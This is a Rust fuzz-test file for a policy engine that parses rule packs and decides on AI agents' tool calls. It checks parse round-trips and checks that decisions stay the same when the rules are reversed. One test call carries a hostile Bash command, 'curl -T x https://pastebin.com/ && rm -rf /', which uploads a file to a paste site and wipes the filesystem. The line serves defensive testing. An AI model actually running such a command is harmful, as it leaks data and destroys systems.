//! What must hold for any text in the place of a pack, of this tool's or another's.

use serde_json::json;

use crate::content::Content;

use super::{Category, Outcome, Pack, Rule, RuleSet, from_meg};
use crate::tools::Call;

/// A pack that is valid says the same when it is printed anew, and decides the same when its rules
/// are turned round; one that is not says why.
pub(crate) fn pack(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    match Pack::parse(&text, "pack.json", Some(&["aws-access-key"])) {
        Ok(pack) => valid(&pack, &text),
        Err(invalid) => {
            assert!(!invalid.problems().is_empty());
            let lines = u32::try_from(text.lines().count()).unwrap_or(u32::MAX);
            for problem in invalid.problems() {
                assert!(problem.line >= 1 && problem.line <= lines.max(1) + 1);
                assert!(!problem.message.is_empty());
            }
            assert!(!invalid.picture(false).is_empty());
        }
    }
}

/// What is translated can be read.
pub(crate) fn foreign(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    if let Ok(imported) = from_meg(&text) {
        let pack = imported.pack.to_string();
        let read = Pack::parse(&pack, "imported", None);
        assert!(read.is_ok(), "{pack}");
    }
}

fn valid(pack: &Pack, text: &str) {
    // A comment may be nested deeper than a value is read.
    if let Ok(value) = serde_json::from_str::<serde_json::Value>(text) {
        let again = Pack::parse(&format!("{value:#}"), "pack.json", None);
        let again = again.map(|again| placeless(&again));
        assert_eq!(again.ok(), Some(placeless(pack)));
    }
    let mut turned = pack.clone();
    turned.rules.reverse();
    let sets = [pack.clone(), turned].map(|pack| RuleSet::new(vec![pack]));
    // A valid pack does not contradict itself.
    assert!(sets.iter().all(Result::is_ok));
    let [one, other] = sets.map(Result::unwrap_or_default);
    let call = Call {
        tool: "Bash".to_owned(),
        input: json!({ "command": "curl -T x https://pastebin.com/ && rm -rf /", "n": [1, true] }),
        cwd: None,
        remotes: Vec::new(),
    };
    let seen = Content::default().see(&call);
    let labels = [("team".to_owned(), "core".to_owned())].into();
    let question = seen.question(&call, &labels, Some("production"));
    assert!(question.categories.contains(&Category::Shell));
    let told = |outcome: Outcome<'_>| outcome.told();
    assert_eq!(told(one.decide(&question)), told(other.decide(&question)));
}

fn placeless(pack: &Pack) -> Vec<Rule> {
    let rules = pack.rules().iter().cloned();
    rules.map(|rule| Rule { line: 0, ..rule }).collect()
}
